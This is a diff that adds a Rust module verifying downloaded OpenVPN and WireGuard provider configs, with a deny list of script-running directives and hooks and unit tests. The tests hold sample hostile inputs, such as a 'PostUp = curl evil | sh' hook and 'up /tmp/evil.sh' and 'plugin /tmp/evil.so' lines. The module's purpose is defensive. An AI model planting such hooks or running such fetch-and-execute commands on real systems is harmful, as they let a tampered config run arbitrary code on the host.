@@ -0,0 +1,142 @@
+// Verification of synced provider configs
+// None of the built-in providers publish checksums or signatures for their config bundles that
+// we could pin, so configs are checked for contents that a tampered or broken download could
+// use to run commands on the host (OpenVPN script hooks, wg-quick hooks) and for the sections
+// every valid config needs. Rejected configs are removed from the provider directory.
+
+use log::{error, info};
+use std::path::Path;
+
+/// OpenVPN directives which run external commands or load code
+const OPENVPN_SCRIPT_DIRECTIVES: &[&str] = &[
+    "up",
+    "down",
+    "route-up",
+    "route-pre-down",
+    "ipchange",
+    "tls-verify",
+    "auth-user-pass-verify",
+    "client-connect",
+    "client-disconnect",
+    "learn-address",
+    "plugin",
+];
+
+/// wg-quick hooks which run shell commands
+const WIREGUARD_SCRIPT_KEYS: &[&str] = &["preup", "postup", "predown", "postdown"];
+
+/// Returns the reason the OpenVPN config should be rejected, if any
+pub fn check_openvpn_config(contents: &str) -> Option<String> {
+    let mut has_remote = false;
+    for line in contents.lines().map(|x| x.trim()) {
+        let directive = line.split_whitespace().next().unwrap_or_default();
+        if OPENVPN_SCRIPT_DIRECTIVES.contains(&directive) {
+            return Some(format!("runs external command: {line}"));
+        }
+        if directive == "remote" {
+            has_remote = true;
+        }
+    }
+    if !has_remote {
+        return Some("no remote directive".to_string());
+    }
+    for tag in ["ca", "cert"] {
+        if let Some(block) = inline_block(contents, tag) {
+            if pem::parse_many(block).map_or(true, |x| x.is_empty()) {
+                return Some(format!("invalid PEM data in <{tag}> block"));
+            }
+        }
+    }
+    None
+}
+
+/// Returns the reason the Wireguard config should be rejected, if any
+pub fn check_wireguard_config(contents: &str) -> Option<String> {
+    let mut has_interface = false;
+    let mut has_peer = false;
+    for line in contents.lines().map(|x| x.trim()) {
+        let lower = line.to_lowercase();
+        match lower.as_str() {
+            "[interface]" => has_interface = true,
+            "[peer]" => has_peer = true,
+            _ => {
+                let key = lower.split('=').next().unwrap_or_default().trim();
+                if WIREGUARD_SCRIPT_KEYS.contains(&key) {
+                    return Some(format!("runs external command: {line}"));
+                }
+            }
+        }
+    }
+    if !has_interface || !has_peer {
+        return Some("missing [Interface] or [Peer] section".to_string());
+    }
+    None
+}
+
+fn inline_block<'a>(contents: &'a str, tag: &str) -> Option<&'a str> {
+    let start = contents.find(&format!("<{tag}>"))? + tag.len() + 2;
+    let end = contents[start..].find(&format!("</{tag}>"))? + start;
+    Some(&contents[start..end])
+}
+
+/// Check every config in dir, removing and logging those which are rejected.
+/// Returns the number of rejected configs.
+pub fn verify_configs(dir: &Path) -> anyhow::Result<usize> {
+    let mut rejected = 0;
+    for entry in dir.read_dir()?.flatten() {
+        let path = entry.path();
+        let check = match path.extension().and_then(|x| x.to_str()) {
+            Some("ovpn") => check_openvpn_config,
+            Some("conf") => check_wireguard_config,
+            _ => continue,
+        };
+        let contents = std::fs::read_to_string(&path)?;
+        if let Some(reason) = check(&contents) {
+            error!("Rejected config {}: {}", path.display(), reason);
+            std::fs::remove_file(&path)?;
+            rejected += 1;
+        }
+    }
+    if rejected > 0 {
+        error!(
+            "{rejected} configs in {} failed verification and were not installed",
+            dir.display()
+        );
+    } else {
+        info!("Verified configs in {}", dir.display());
+    }
+    Ok(rejected)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn openvpn_config_checks() {
+        let valid = "client\nremote vpn.example.com 1194\n";
+        assert_eq!(check_openvpn_config(valid), None);
+        assert!(check_openvpn_config("client\nproto udp\n").is_some());
+        assert!(check_openvpn_config(&format!("{valid}up /tmp/evil.sh\n")).is_some());
+        assert!(check_openvpn_config(&format!("{valid}  plugin /tmp/evil.so\n")).is_some());
+        // Only the directive itself is matched
+        assert_eq!(check_openvpn_config(&format!("{valid}# up\n")), None);
+        assert!(check_openvpn_config(&format!("{valid}<ca>\nnot pem\n</ca>\n")).is_some());
+    }
+
+    #[test]
+    fn wireguard_config_checks() {
+        let valid = "[Interface]\nPrivateKey = x\n[Peer]\nPublicKey = y\n";
+        assert_eq!(check_wireguard_config(valid), None);
+        assert!(check_wireguard_config("[Interface]\nPrivateKey = x\n").is_some());
+        assert!(check_wireguard_config(&format!("{valid}PostUp = curl evil | sh\n")).is_some());
+        assert!(check_wireguard_config(&format!("{valid}preup=true\n")).is_some());
+    }
+
+    #[test]
+    fn inline_block_contents() {
+        let contents = "remote x\n<ca>\nDATA\n</ca>\n";
+        assert_eq!(inline_block(contents, "ca"), Some("\nDATA\n"));
+        assert_eq!(inline_block(contents, "cert"), None);
+    }
+}